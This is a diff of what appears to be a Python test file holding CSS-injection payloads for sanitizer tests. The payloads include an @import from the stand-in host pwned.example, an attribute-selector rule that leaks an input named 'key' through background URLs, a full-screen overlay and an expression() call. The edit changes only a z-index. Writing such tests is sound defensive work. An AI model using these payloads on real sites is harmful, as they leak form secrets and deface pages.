@@ -9,7 +9,7 @@ from tests.class_attacks import Told, desk_pages
 BOX = (
     "<style>@import '//pwned.example/x.css'; input[name=key][value^=a] "
     "{background: url(//pwned.example/a)} body {display: none}</style>"
-    '<div style="position:fixed;inset:0;z-index:9999;background:url(//pwned.example)">pwned-20</div>'
+    '<div style="position:fixed;inset:0;z-index:9;background:url(//pwned.example)">pwned-20</div>'
     '<div style="background:u\\72l(//pwned.example);margin:-99em;width:expression(pwned())">x</div>'
 )
 
